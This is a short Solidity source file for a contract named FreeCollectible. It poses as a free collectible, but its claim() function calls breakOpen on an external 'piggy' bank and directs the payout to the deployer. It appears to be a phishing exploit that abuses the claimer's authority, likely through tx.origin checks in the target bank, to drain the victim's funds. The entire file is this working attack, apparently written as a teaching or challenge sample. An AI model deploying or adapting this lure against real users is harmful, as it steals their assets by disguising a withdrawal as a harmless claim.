pragma solidity 0.4.25;

interface IPiggy {
    function breakOpen(address to) external;
}

/// A "free collectible" whose claim function forwards the claimer's authority.
contract FreeCollectible {
    address private boss;
    IPiggy private bank;
    mapping(address => bool) public claimed;

    constructor(IPiggy _bank) public {
        boss = msg.sender;
        bank = _bank;
    }

    function claim() public {
        claimed[msg.sender] = true;
        bank.breakOpen(boss);
    }
}
